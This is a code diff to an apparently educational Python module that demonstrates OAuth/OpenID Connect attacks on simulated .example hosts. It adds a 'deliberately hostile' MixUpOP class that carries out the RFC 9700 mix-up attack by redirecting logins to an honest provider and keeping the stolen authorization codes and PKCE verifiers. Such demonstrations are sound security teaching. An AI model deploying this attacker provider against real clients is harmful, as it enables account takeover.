@@ -43,6 +43,7 @@ from functools import cache
 from importlib import resources
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 from cryptography import x509
 from cryptography.exceptions import InvalidSignature as _CryptoInvalidSignature
@@ -61,7 +62,7 @@ from .compact import b64url_decode, b64url_encode, decode_unverified
 from .id_token import ClientRegistration, IdTokenValidator, OpenIDProvider
 from .jws import encode_claims, encode_header
 from .keys import DemoKey, as_jwk, demo_key, load_jwks, public_jwks
-from .parties import Database, LocalServer, Network, ReplayStore, Response
+from .parties import Database, LocalServer, Network, ReplayStore, Request, Response, json_response
 from .registration import (
     DEMO_SOFTWARE,
     Client,
@@ -84,6 +85,7 @@ __all__ = [
     "ConfusionMatrix",
     "CrackResult",
     "Measurement",
+    "MixUpOP",
     "NaiveFileKeyStore",
     "NaiveResult",
     "NaiveSqliteKeyStore",
@@ -792,12 +794,14 @@ def build_confusion_matrix(
     # network of their own that is never started; as.bank.example's real server publishes the key.
     offstage = Network()
     directory = Directory(offstage, host=auth.server.host, key=signing, alg=alg, clock=clock, ids=ids)
-    op = OpenIDProvider(offstage, clock=clock, store_dir=base, host=auth.server.host, key=signing, ids=ids)
+    op = OpenIDProvider(
+        offstage, clock=clock, store_dir=base, host=auth.server.host, signing_keys={alg: signing}, access_token_alg=alg, ids=ids
+    )
     rp = op.register(ClientRegistration("tpp-1", ("https://app.hobbiton.example/callback",), id_token_signed_response_alg=alg))
     databases = [Database(base / "confusion-replay.sqlite"), Database(base / "confusion-nonces.sqlite")]
     try:
         network.start()
-        directory.enroll(DEMO_SOFTWARE, signing)
+        directory.enroll(DEMO_SOFTWARE, signing, alg=alg)
         ssa = directory.issue_ssa(DEMO_SOFTWARE, software_jwks_endpoint=jwks_url)
         client = Client(DEMO_SOFTWARE, key=signing, alg=alg, clock=clock, ids=ids)
         request = client.registration_request(ssa, auth.issuer)
@@ -843,3 +847,48 @@ def build_confusion_matrix(
             owned.cleanup()
     note = f"one {alg} key, kid {signing['kid'][:12]}…, behind all four validators"
     return ConfusionMatrix(tokens, traces, note)
+
+
+# ------------------------------------------------------------------------------------------------
+# Mix-up (RFC 9700 §4.4): an OP that sends the user on to an honest OP and keeps the code
+# ------------------------------------------------------------------------------------------------
+class MixUpOP(OpenIDProvider):
+    """Deliberately hostile: the attacker's OP of RFC 9700 §4.4.1, over real HTTP.
+
+    A client that uses several OPs starts a login here (the user picked "op.attacker.example", or the
+    attacker made the link). This OP's ``/authorize`` does not authenticate anyone: it redirects the
+    browser to the honest OP's authorization endpoint with the same request, the client's
+    ``client_id`` and ``redirect_uri`` *at the honest OP* substituted. The honest OP authenticates the
+    user and sends its code to the client. A client that cannot tell which OP answered believes the
+    code is this OP's and posts it, with the PKCE ``code_verifier``, to this OP's ``/token``, which
+    keeps both in :attr:`stolen` (the attacker can now redeem them at the honest OP).
+    """
+
+    def __init__(
+        self,
+        network: Network,
+        *,
+        honest_authorization_endpoint: str,
+        honest_client_id: str,
+        honest_redirect_uri: str,
+        **options: Any,
+    ) -> None:
+        options.setdefault("host", "op.attacker.example")
+        super().__init__(network, **options)
+        self.honest_authorization_endpoint = honest_authorization_endpoint
+        self.honest_client_id = honest_client_id
+        self.honest_redirect_uri = honest_redirect_uri
+        #: What the client posted to this OP's token endpoint: (code, code_verifier) pairs.
+        self.stolen: list[tuple[str, str]] = []
+        self.server.route("GET", f"{self.path}/authorize")(self._send_on)
+        self.server.route("POST", f"{self.path}/token")(self._keep)
+
+    def _send_on(self, req: Request) -> Response:
+        q = {k: v[0] for k, v in req.query.items()}
+        q.update(client_id=self.honest_client_id, redirect_uri=self.honest_redirect_uri)
+        return Response(302, b"", {"Location": f"{self.honest_authorization_endpoint}?{urlencode(q)}"})
+
+    def _keep(self, req: Request) -> Response:
+        form = req.form()
+        self.stolen.append((form.get("code", ""), form.get("code_verifier", "")))
+        return json_response(400, {"error": "invalid_grant", "error_description": "thank you"})
